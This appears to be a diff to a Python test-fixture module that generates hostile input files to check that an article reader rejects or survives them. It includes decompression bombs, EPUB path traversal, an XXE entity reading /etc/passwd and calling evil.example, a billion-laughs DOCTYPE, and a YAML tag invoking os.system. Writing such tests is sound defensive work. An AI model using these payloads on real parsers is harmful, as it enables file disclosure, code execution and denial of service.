@@ -1,3 +1,4 @@
+# ruff: noqa: E501  (hostile bytes written out whole)
 """Hostile and broken article files, made on demand (nothing big is kept in git).
 
 `CASES` are file contents: each names what reader must give for it (an article
@@ -11,9 +12,17 @@ terminal escapes, folders 1,000 deep) under a folder.
 
 from __future__ import annotations
 
+import base64
 import codecs
+import functools
+import gzip
+import io
 import os
+import plistlib
+import quopri
 import random
+import struct
+import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -122,6 +131,267 @@ def _million_paragraphs(html: bool) -> Callable[[], bytes]:
     return lambda: ("A million paragraphs\n\n" + "Short one.\n\n" * 1_000_000).encode()
 
 
+# ---- containers: mail, archives, web archives, EPUB ----------------------------------
+
+BOMB_BYTES = 33 * 2**20  # decompressed: over the 32 MB a member may hold
+
+
+def _once(make: Callable[[], bytes]) -> Callable[[], bytes]:
+    """`make`, run once a session: a bomb takes a while to compress."""
+    return functools.cache(make)
+
+
+def _mail(body: str = "", *, headers: str = "", html: bool = True) -> bytes:
+    kind = "text/html" if html else "text/plain"
+    text = body or (html_page("Mailed story", html_paragraphs()) if html else paragraphs())
+    return (
+        f"From: Letter <letter@example.com>\r\nSubject: Mailed story\r\n{headers}"
+        f"MIME-Version: 1.0\r\nContent-Type: {kind}; charset=utf-8\r\n\r\n{text}"
+    ).encode()
+
+
+def _nested_mime(depth: int) -> bytes:
+    message = b"Content-Type: text/html\r\n\r\n<p>" + ARTICLE_WORDS.encode() + b"</p>\r\n"
+    for level in range(depth):
+        message = (
+            (f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n').encode()
+            + message
+            + f"\r\n--b{level}--\r\n".encode()
+        )
+    return b"Subject: deep\r\nMIME-Version: 1.0\r\n" + message
+
+
+def _mbox(*messages: bytes) -> bytes:
+    return b"".join(
+        b"From letter@example.com Mon Jun  2 07:00:00 2025\n" + m.replace(b"\r\n", b"\n") + b"\n\n"
+        for m in messages
+    )
+
+
+def _bad_base64() -> bytes:
+    body = base64.b64encode(html_page("Broken base64", html_paragraphs()).encode()).decode()
+    broken = body[:200] + "!!**" + body[200:-3]  # bad characters, and the padding cut
+    return (
+        "Subject: Broken base64\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        + "\r\n".join(broken[i : i + 76] for i in range(0, len(broken), 76))
+    ).encode()
+
+
+def _bad_quoted_printable() -> bytes:
+    body = quopri.encodestring(html_page("Broken QP", html_paragraphs()).encode()).decode()
+    return (
+        "Subject: Broken QP\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n"
+        "\r\n=ZZ=\r\n=4" + body + "=\r\n=E2=80"
+    ).encode()
+
+
+def _zip(members: dict[str, bytes], prelude: bytes = b"") -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
+    return prelude + buffer.getvalue()
+
+
+def _epub(
+    chapters: dict[str, bytes], opf_head: str = "", hrefs: dict[str, str] | None = None
+) -> bytes:
+    hrefs = hrefs or {name: name for name in chapters}
+    manifest = "".join(
+        f'<item id="c{n}" href="{href}" media-type="application/xhtml+xml"/>'
+        for n, href in enumerate(hrefs.values())
+    )
+    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(len(hrefs)))
+    members = {
+        "mimetype": b"application/epub+zip",
+        "META-INF/container.xml": b'<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:'
+        b'opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/book.opf"/>'
+        b"</rootfiles></container>",
+        "OEBPS/book.opf": (
+            f'<?xml version="1.0"?>{opf_head}<package xmlns="http://www.idpf.org/2007/opf">'
+            f"<metadata/><manifest>{manifest}</manifest><spine>{spine}</spine></package>"
+        ).encode(),
+    }
+    members.update(
+        {
+            f"OEBPS/{name}" if not name.startswith(("/", "..")) else name: data
+            for name, data in chapters.items()
+        }
+    )
+    return _zip(members)
+
+
+def _chapter(title: str, body: str = "", doctype: str = "") -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="utf-8"?>{doctype}<html xmlns="http://www.w3.org/1999/xhtml">'
+        f"<head><title>{title}</title></head><body><h1>{title}</h1>{body or html_paragraphs()}"
+        "</body></html>"
+    ).encode()
+
+
+_XXE = (
+    '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
+    '<!ENTITY net SYSTEM "http://evil.example/x.dtd">'
+    '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
+    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
+)
+
+
+def _warc_record(uri: str, body: bytes, headers: str = "") -> bytes:
+    http = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{headers}\r\n".encode() + body
+    return (
+        (
+            "WARC/1.0\r\nWARC-Type: response\r\nWARC-Date: 2025-06-03T10:00:00Z\r\n"
+            f"WARC-Record-ID: <urn:uuid:{abs(hash(uri)):032x}>\r\nWARC-Target-URI: {uri}\r\n"
+            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n"
+        ).encode()
+        + http
+        + b"\r\n\r\n"
+    )
+
+
+def _warc_truncated(compressed: bool) -> bytes:
+    good = _warc_record(
+        "https://example.com/a", html_page("Archived page", html_paragraphs()).encode()
+    )
+    cut = _warc_record("https://example.com/b", html_page("Cut page", html_paragraphs()).encode())
+    cut = cut[: len(cut) // 2]
+    if compressed:
+        return gzip.compress(good) + gzip.compress(cut)[:-20]
+    return good + cut
+
+
+def _warc_bomb() -> bytes:
+    bomb = gzip.compress(b"<p>" + b" " * BOMB_BYTES)
+    return gzip.compress(
+        _warc_record(
+            "https://example.com/bomb",
+            bomb,
+            f"Content-Encoding: gzip\r\nContent-Length: {len(bomb)}\r\n",
+        )
+    ) + gzip.compress(
+        _warc_record(
+            "https://example.com/a", html_page("After the bomb", html_paragraphs()).encode()
+        )
+    )
+
+
+def _webarchive(data: bytes) -> bytes:
+    return plistlib.dumps(
+        {"WebMainResource": {"WebResourceData": data, "WebResourceMIMEType": "text/html"}},
+        fmt=plistlib.FMT_BINARY,
+    )
+
+
+CONTAINER_CASES: tuple[Case, ...] = (
+    Case(
+        "bomb.html.gz",
+        lambda: gzip.compress(b" " * BOMB_BYTES),
+        reason="too large when decompressed",
+    ),
+    Case(
+        "cut.html.gz",
+        lambda: gzip.compress(html_page("Cut", html_paragraphs()).encode())[:-30],
+        reason="cut short",
+    ),
+    Case(
+        "bomb.zip.html",
+        _once(lambda: _zip({"index.html": b"<p>" + b" " * BOMB_BYTES}, b"<html>")),
+        reason="too large",
+    ),
+    Case(
+        "bomb.epub",
+        _once(
+            lambda: _epub(
+                {"bomb.xhtml": b"<p>" + b" " * BOMB_BYTES, "ok.xhtml": _chapter("After the bomb")}
+            )
+        ),
+        shows="harbour bridge",
+    ),
+    Case(
+        "traversal.epub",
+        lambda: _epub(
+            {
+                "../../evil.xhtml": _chapter("Evil"),
+                "/etc/evil.xhtml": _chapter("Evil"),
+                "ok.xhtml": _chapter("Inside the book"),
+            },
+            hrefs={"a": "../../../evil.xhtml", "b": "/etc/evil.xhtml", "c": "ok.xhtml"},
+        ),
+        shows="Inside the book",
+    ),
+    Case(
+        "entities.epub",
+        lambda: _epub(
+            {
+                "ok.xhtml": _chapter(
+                    "Entities stay unread",
+                    f"<p>&xxe;&net;&lol4; {ARTICLE_WORDS}</p>" + html_paragraphs(),
+                    doctype=_XXE,
+                )
+            },
+            opf_head=_XXE.replace("html", "package"),
+        ),
+        shows="Entities stay unread",
+    ),
+    Case(
+        "no-package.epub", lambda: _zip({"mimetype": b"application/epub+zip"}), reason="no package"
+    ),
+    Case("not-a-zip.epub", lambda: b"PK\x03\x04 this is not a zip" * 10, reason="not a ZIP"),
+    Case("nested.eml", lambda: _nested_mime(1000), reason="nested too deeply"),
+    Case("nested.mbox", lambda: _mbox(_nested_mime(1000), _mail()), shows="harbour bridge"),
+    Case("bad-base64.eml", _bad_base64, shows="harbour bridge"),
+    Case("bad-qp.eml", _bad_quoted_printable, shows="harbour bridge"),
+    Case("empty.mbox", lambda: b"From nobody Mon Jun  2 07:00:00 2025\n\n", reason="no"),
+    Case("truncated.warc", lambda: _warc_truncated(False), shows="Archived page"),
+    Case("truncated.warc.gz", lambda: _warc_truncated(True), shows="Archived page"),
+    Case("bomb.warc.gz", _once(_warc_bomb), shows="After the bomb"),
+    Case(
+        "not-a-plist.webarchive",
+        lambda: b"<html><p>" + ARTICLE_WORDS.encode() + b"</p></html>",
+        reason="not a Safari web archive",
+    ),
+    Case(
+        "cycle.webarchive",
+        lambda: b"bplist00\xa1\x00\x08" + bytes(6) + b"\x01\x01" + struct.pack(">QQQ", 1, 0, 10),
+        reason="not a Safari web archive",
+    ),
+    Case(
+        "escapes.webarchive",
+        lambda: _webarchive(html_page(f"Title {ESCAPES} here", html_paragraphs()).encode()),
+        shows="Title link here",
+    ),
+    Case(
+        "frontmatter-bomb.md",
+        lambda: (
+            "---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
+            "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
+            "author: *d\ntitle: !!python/object/apply:os.system ['echo owned']\n---\n"
+            + paragraphs()
+        ).encode(),
+        shows="harbour bridge",
+    ),
+)
+
+# A 500 MB mailbox: two messages with a hole of zeros between them (made
+# sparse, so it costs no disk); the hole is one message too large to read.
+HUGE_MBOX = "huge.mbox"
+HUGE_MBOX_BYTES = 500 * 2**20
+
+
+def write_huge_mbox(path: Path) -> None:
+    first = _mbox(_mail())
+    last = b"\n" + _mbox(_mail(html_page("The last letter", html_paragraphs())))
+    with path.open("wb") as file:
+        file.write(first + b"From hole@example.com Mon Jun  2 07:00:00 2025\nSubject: hole\n\n")
+        file.truncate(HUGE_MBOX_BYTES)
+        file.seek(HUGE_MBOX_BYTES)
+        file.write(last)
+
+
 CASES: tuple[Case, ...] = (
     # Terminal escapes and markup, raw and as character references.
     Case(
@@ -207,6 +477,7 @@ CASES: tuple[Case, ...] = (
     Case("long-line.html", _long_line(html=True), shows="word word", big=True),
     Case("million.txt", _million_paragraphs(html=False), reason="too many paragraphs", big=True),
     Case("million.html", _million_paragraphs(html=True), reason="too many elements", big=True),
+    *CONTAINER_CASES,
 )
 
 # Far over the size limit: made sparse, so it costs no disk.
@@ -214,12 +485,13 @@ HUGE_NAME = "huge.html"
 HUGE_BYTES = 100 * 2**20
 
 
-def write_cases(folder: Path, *, big: bool = True) -> dict[str, Case]:
-    """Write the cases (and the 100 MB file) into `folder`; returns them by name."""
+def write_cases(folder: Path, *, big: bool = True, containers: bool = True) -> dict[str, Case]:
+    """Write the cases (and the 100 MB file) into `folder`; returns them by name.
+    `containers=False` leaves out the mailboxes, archives and EPUBs."""
     folder.mkdir(parents=True, exist_ok=True)
     written = {}
     for case in CASES:
-        if case.big and not big:
+        if (case.big and not big) or (case in CONTAINER_CASES and not containers):
             continue
         (folder / case.name).write_bytes(case.make())
         written[case.name] = case
